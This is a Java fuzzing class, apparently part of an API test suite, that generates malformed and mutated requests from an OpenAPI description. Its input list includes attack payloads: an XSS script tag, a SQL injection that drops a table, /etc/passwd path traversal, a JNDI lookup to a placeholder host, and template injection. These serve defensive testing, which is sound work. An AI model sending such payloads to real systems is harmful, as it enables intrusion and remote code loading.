package com.autobolt.api.fuzz;

import com.autobolt.api.fuzz.OpenApiOperations.Operation;
import com.autobolt.api.fuzz.OpenApiOperations.Parameter;
import com.autobolt.api.support.TestKeys;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.UUID;
import tools.jackson.databind.JsonNode;

/**
 * Generates one request from the API description: a valid request taken apart on purpose. Each request
 * comes from its own random stream, derived from the run's seed and the request's index, so a failure
 * names the seed and index that replay it ({@code -Dautobolt.fuzz.seed=… -Dautobolt.fuzz.from=…}).
 */
final class FuzzRequests {

    /** What the fuzzer knows exists, so that some requests get past "not found" into deeper code. */
    record Fixture(UUID customerId, String customerEmail, UUID jobId, String directoryId, String shareId) {}

    /** One generated request; {@code mutations} says what was done to it, for the failure report. */
    record FuzzRequest(
            long index,
            Operation operation,
            String role,
            String method,
            String pathAndQuery,
            Map<String, String> headers,
            byte[] body,
            List<String> mutations) {

        String describe() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return "#" + index + " " + method + " " + cut(pathAndQuery, 300) + " as " + role + " headers="
                    + cut(headers.toString(), 300) + " mutations=" + mutations + " body=" + cut(text, 400);
        }
    }

    static final List<String> ROLES = List.of("admin", "staff", "viewer", "worker", "unknown", "none");

    private static final List<String> ODD_TEXT = List.of(
            "",
            " ",
            "\u0000",
            "nul\u0000inside",
            "\u202eevil\u202c",
            "\ud800",
            "\udfff\ud800",
            "\ufeffbom",
            "e\u0301\u0301\u0301\u0301",
            "\u200b\u200d\u2060",
            "😀👩‍👩‍👧‍👦🏳️‍🌈",
            "\uffff\ufffe",
            "\t\r\n\u0007\u001b[31m",
            "<script>alert(1)</script>",
            "'; DROP TABLE jobs; --",
            "../../../etc/passwd",
            "%00%2e%2e%2f",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "null",
            "-1",
            "1e309",
            "ａｂｃ全角",
            "ÀÁÂÃÄÅ ÆÇ");

    private static final List<String> RAW_JSON_VALUES = List.of(
            "null",
            "true",
            "-1",
            "0",
            "2147483648",
            "-9223372036854775809",
            "1e400",
            "-0.0",
            "3.14",
            "[]",
            "{}",
            "[null]",
            "{\"\":{}}",
            "1" + "0".repeat(1500),
            "[".repeat(3000) + "]".repeat(3000),
            "\"" + "x".repeat(10_000) + "\"");

    private static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/json; charset=ISO-8859-1",
            "application/merge-patch+json",
            "multipart/form-data; boundary=zz",
            "application/x-www-form-urlencoded",
            "}{",
            "application/json;;;",
            "application/vnd.autobolt.worker.v1+json",
            "*/*");

    private static final List<String> ACCEPTS = List.of(
            "*/*",
            "application/json",
            "application/problem+json",
            "application/vnd.autobolt.worker.v1+json",
            "application/xml",
            "text/html",
            "text/event-stream",
            "image/png;q=0.1, */*;q=0",
            "garbage");

    private final OpenApiOperations api;
    private final Fixture fixture;

    FuzzRequests(OpenApiOperations api, Fixture fixture) {
        this.api = api;
        this.fixture = fixture;
    }

    FuzzRequest next(long seed, long index) {
        SplittableRandom random = new SplittableRandom(seed * 0x9E3779B97F4A7C15L + index);
        List<Operation> operations = api.operations();
        Operation operation = operations.get(random.nextInt(operations.size()));
        String role = ROLES.get(random.nextInt(ROLES.size()));
        List<String> mutations = new ArrayList<>();
        Map<String, String> headers = new LinkedHashMap<>();
        authenticate(random, role, headers, mutations);
        String path = path(random, operation, mutations) + query(random, operation, mutations);
        byte[] body = body(random, operation, headers, mutations);
        abuseHeaders(random, headers, mutations);
        String method = operation.method();
        if (random.nextInt(40) == 0) {
            method = List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS").get(random.nextInt(6));
            mutations.add("method " + method);
        }
        return new FuzzRequest(index, operation, role, method, path, headers, body, mutations);
    }

    private static void authenticate(
            SplittableRandom random, String role, Map<String, String> headers, List<String> mutations) {
        String key = switch (role) {
            case "none" -> null;
            case "unknown" -> TestKeys.UNKNOWN;
            default -> TestKeys.of(role);
        };
        if (key == null) {
            return;
        }
        switch (random.nextInt(12)) {
            case 0 -> headers.put("X-Api-Key", key);
            case 1 -> {
                headers.put("Authorization", "Bearer " + key + "x".repeat(random.nextInt(1, 9000)));
                mutations.add("key with a long tail");
            }
            case 2 -> {
                headers.put("Authorization", "Basic " + key);
                mutations.add("Basic scheme");
            }
            case 3 -> {
                headers.put("Authorization", "Bearer " + TestKeys.VIEWER);
                headers.put("X-Api-Key", key);
                mutations.add("two different keys");
            }
            case 4 -> {
                headers.put("Authorization", "bearer  " + key + " ");
                mutations.add("odd spacing and case");
            }
            default -> headers.put("Authorization", "Bearer " + key);
        }
    }

    private String path(SplittableRandom random, Operation operation, List<String> mutations) {
        String path = operation.path();
        for (Parameter parameter : operation.parameters()) {
            if (!parameter.in().equals("path")) {
                continue;
            }
            String value;
            int choice = random.nextInt(10);
            if (choice < 6) {
                value = knownValue(operation.path(), parameter.name());
            } else if (choice < 8) {
                value = UUID.randomUUID().toString();
            } else {
                value = oddText(random);
                mutations.add("odd path " + parameter.name());
            }
            path = path.replace("{" + parameter.name() + "}", encode(value));
        }
        return path;
    }

    private String knownValue(String path, String name) {
        if (name.equals("directoryId") || path.startsWith("/api/directories")) {
            return fixture.directoryId();
        }
        if (name.equals("shareId")) {
            return fixture.shareId();
        }
        if (path.startsWith("/api/customers")) {
            return fixture.customerId().toString();
        }
        return fixture.jobId().toString();
    }

    private String query(SplittableRandom random, Operation operation, List<String> mutations) {
        List<String> pairs = new ArrayList<>();
        for (Parameter parameter : operation.parameters()) {
            if (!parameter.in().equals("query") || (!parameter.required() && random.nextBoolean())) {
                continue;
            }
            Object value = random.nextInt(3) == 0 ? oddText(random) : valueFor(random, parameter.schema(), 0);
            String text = value instanceof List<?> list && !list.isEmpty()
                    ? String.valueOf(list.get(0))
                    : String.valueOf(value);
            pairs.add(encode(parameter.name()) + "=" + encode(text));
        }
        if (random.nextInt(8) == 0) {
            pairs.add("unexpected=" + encode(oddText(random)));
            mutations.add("unknown query parameter");
        }
        if (random.nextInt(12) == 0 && !pairs.isEmpty()) {
            pairs.add(pairs.get(0) + "x");
            mutations.add("repeated query parameter");
        }
        return pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
    }

    private byte[] body(
            SplittableRandom random, Operation operation, Map<String, String> headers, List<String> mutations) {
        String json;
        if (operation.bodySchema() == null) {
            if (random.nextInt(10) != 0) {
                return null;
            }
            json = JsonText.write(valueFor(random, null, 0));
            mutations.add("a body where none is taken");
        } else {
            json = mutatedBody(random, operation, mutations);
        }
        headers.put("Content-Type", "application/json");
        if (random.nextInt(10) == 0) {
            String type = CONTENT_TYPES.get(random.nextInt(CONTENT_TYPES.size()));
            headers.put("Content-Type", type);
            mutations.add("content type " + type);
        }
        byte[] bytes = json.getBytes(StandardCharsets.UTF_8);
        switch (random.nextInt(30)) {
            case 0 -> {
                mutations.add("invalid UTF-8");
                byte[] broken = new byte[bytes.length + 3];
                System.arraycopy(bytes, 0, broken, 0, bytes.length / 2);
                broken[bytes.length / 2] = (byte) 0xC3;
                broken[bytes.length / 2 + 1] = (byte) 0x28;
                broken[bytes.length / 2 + 2] = (byte) 0xFF;
                System.arraycopy(
                        bytes, bytes.length / 2, broken, bytes.length / 2 + 3, bytes.length - bytes.length / 2);
                return broken;
            }
            case 1 -> {
                mutations.add("truncated");
                return java.util.Arrays.copyOf(bytes, random.nextInt(Math.max(1, bytes.length)));
            }
            case 2 -> {
                mutations.add("3 MB body");
                return (json + " ".repeat(3 * 1024 * 1024)).getBytes(StandardCharsets.UTF_8);
            }
            case 3 -> {
                mutations.add("empty body");
                return new byte[0];
            }
            default -> {
                return bytes;
            }
        }
    }

    private String mutatedBody(SplittableRandom random, Operation operation, List<String> mutations) {
        JsonNode schema = api.resolve(operation.bodySchema());
        Object valid = validValue(random, schema, 0);
        if (!(valid instanceof Map<?, ?> map) || random.nextInt(4) == 0) {
            return JsonText.write(valid);
        }
        @SuppressWarnings("unchecked")
        Map<String, Object> object = (Map<String, Object>) map;
        List<String> names = new ArrayList<>(object.keySet());
        int count = random.nextInt(1, 4);
        for (int i = 0; i < count; i++) {
            int kind = random.nextInt(7);
            if (names.isEmpty() && kind < 3) {
                kind = 3;
            }
            switch (kind) {
                case 0 -> {
                    String name = names.remove(random.nextInt(names.size()));
                    object.remove(name);
                    mutations.add("without " + name);
                }
                case 1 -> {
                    String name = names.get(random.nextInt(names.size()));
                    object.put(name, hostileValue(random));
                    mutations.add("hostile " + name);
                }
                case 2 -> {
                    String name = names.get(random.nextInt(names.size()));
                    object.put(name, wrongType(random, object.get(name)));
                    mutations.add("wrong type " + name);
                }
                case 3 -> {
                    object.put(random.nextBoolean() ? "unexpectedField" : oddText(random), hostileValue(random));
                    mutations.add("extra field");
                }
                case 4 -> {
                    mutations.add("top level " + (kind));
                    return JsonText.write(hostileValue(random));
                }
                case 5 -> {
                    if (!names.isEmpty()) {
                        String name = names.get(random.nextInt(names.size()));
                        mutations.add("duplicate key " + name);
                        String text = JsonText.write(object);
                        return "{" + JsonText.write(name) + ":" + JsonText.write(hostileValue(random)) + ","
                                + text.substring(1);
                    }
                }
                default -> {
                    // left valid
                }
            }
        }
        return JsonText.write(object);
    }

    /** A value the schema accepts (as far as the description says), with the fixture's ids where they fit. */
    private Object validValue(SplittableRandom random, JsonNode schema, int depth) {
        return valueFor(random, schema, depth);
    }

    private Object valueFor(SplittableRandom random, JsonNode schema, int depth) {
        JsonNode resolved = schema == null ? null : api.resolve(schema);
        if (resolved == null || resolved.isMissingNode() || depth > 4) {
            return random.nextBoolean() ? "text" : random.nextInt(100);
        }
        if (resolved.has("oneOf") || resolved.has("anyOf")) {
            JsonNode choices = resolved.has("oneOf") ? resolved.path("oneOf") : resolved.path("anyOf");
            return valueFor(random, choices.get(random.nextInt(choices.size())), depth + 1);
        }
        if (resolved.has("enum")) {
            JsonNode values = resolved.path("enum");
            return values.get(random.nextInt(values.size())).asString();
        }
        String type = resolved.path("type").asString("object");
        return switch (type) {
            case "string" -> stringFor(random, resolved);
            case "integer" -> {
                long min = resolved.path("minimum").asLong(0);
                long max = resolved.path("maximum").asLong(min + 100);
                yield min + (max > min ? random.nextLong(max - min + 1) : 0);
            }
            case "number" -> random.nextDouble() * 100;
            case "boolean" -> random.nextBoolean();
            case "array" -> {
                List<Object> items = new ArrayList<>();
                int size = random.nextInt(0, 3);
                for (int i = 0; i < size; i++) {
                    items.add(valueFor(random, resolved.path("items"), depth + 1));
                }
                yield items;
            }
            default -> objectFor(random, resolved, depth);
        };
    }

    private Map<String, Object> objectFor(SplittableRandom random, JsonNode schema, int depth) {
        Map<String, Object> object = new LinkedHashMap<>();
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(name -> required.add(name.asString()));
        for (var property : schema.path("properties").properties()) {
            String name = property.getKey();
            if (required.contains(name) || random.nextInt(3) > 0) {
                object.put(name, knownOr(random, name, property.getValue(), depth));
            }
        }
        if (schema.path("additionalProperties").isObject() && object.isEmpty()) {
            object.put("key", valueFor(random, schema.path("additionalProperties"), depth + 1));
        }
        return object;
    }

    private Object knownOr(SplittableRandom random, String name, JsonNode schema, int depth) {
        return switch (name) {
            case "customerId" -> fixture.customerId().toString();
            case "directoryIds" -> List.of(fixture.directoryId());
            default -> valueFor(random, schema, depth + 1);
        };
    }

    private static String stringFor(SplittableRandom random, JsonNode schema) {
        String format = schema.path("format").asString("");
        int min = schema.path("minLength").asInt(1);
        int max = Math.min(schema.path("maxLength").asInt(40), 40);
        return switch (format) {
            case "uuid" -> UUID.randomUUID().toString();
            case "date-time" ->
                Instant.ofEpochSecond(1_700_000_000L + random.nextInt(100_000_000))
                        .toString();
            case "uri", "url" -> "https://fuzz.example/" + random.nextInt(1000);
            case "email" -> "fuzz" + random.nextInt(1_000_000) + "@example.org";
            default -> {
                int length = Math.max(min, Math.min(max, random.nextInt(1, 12)));
                StringBuilder text = new StringBuilder();
                for (int i = 0; i < length; i++) {
                    text.append((char) ('a' + random.nextInt(26)));
                }
                yield text.toString();
            }
        };
    }

    private static Object hostileValue(SplittableRandom random) {
        return switch (random.nextInt(5)) {
            case 0 -> new JsonText.Raw(RAW_JSON_VALUES.get(random.nextInt(RAW_JSON_VALUES.size())));
            case 1 -> "x".repeat(List.of(65, 201, 1001, 5001, 100_001).get(random.nextInt(5)));
            case 2 -> List.of(oddText(random), oddText(random));
            case 3 -> Map.of(oddText(random), oddText(random));
            default -> oddText(random);
        };
    }

    private static Object wrongType(SplittableRandom random, Object value) {
        if (value instanceof String) {
            return random.nextBoolean() ? (Object) random.nextInt() : List.of(value);
        }
        if (value instanceof Number) {
            return String.valueOf(value) + "x";
        }
        return random.nextBoolean() ? "text" : 42;
    }

    private static String oddText(SplittableRandom random) {
        return ODD_TEXT.get(random.nextInt(ODD_TEXT.size()));
    }

    private static void abuseHeaders(SplittableRandom random, Map<String, String> headers, List<String> mutations) {
        if (random.nextInt(4) == 0) {
            String accept = ACCEPTS.get(random.nextInt(ACCEPTS.size()));
            headers.put("Accept", accept);
            mutations.add("accept " + accept);
        }
        switch (random.nextInt(14)) {
            case 0 -> headers.put("Idempotency-Key", "k".repeat(random.nextInt(1, 5000)));
            case 1 -> headers.put("Idempotency-Key", " ../\t%00 ");
            case 2 ->
                headers.put(
                        "If-Match",
                        List.of("*", "W/\"x\"", "\"\"", "\"99999999999999999999\"", "junk")
                                .get(random.nextInt(5)));
            case 3 -> headers.put("X-Request-Id", "r".repeat(random.nextInt(1, 6000)));
            case 4 -> headers.put("X-Request-Id", "<script>\"'`");
            case 5 -> headers.put("Range", "bytes=0-1,5-9");
            case 6 -> headers.put("X-Forwarded-For", "127.0.0.1, ::1, " + "9".repeat(300));
            case 7 -> headers.put("traceparent", "00-" + "f".repeat(32) + "-" + "0".repeat(16) + "-ff");
            case 8 -> headers.put("Last-Event-ID", "ÿ-" + random.nextLong());
            default -> {
                return;
            }
        }
        mutations.add("header abuse");
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String cut(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max) + "…(" + text.length() + " chars)";
    }
}
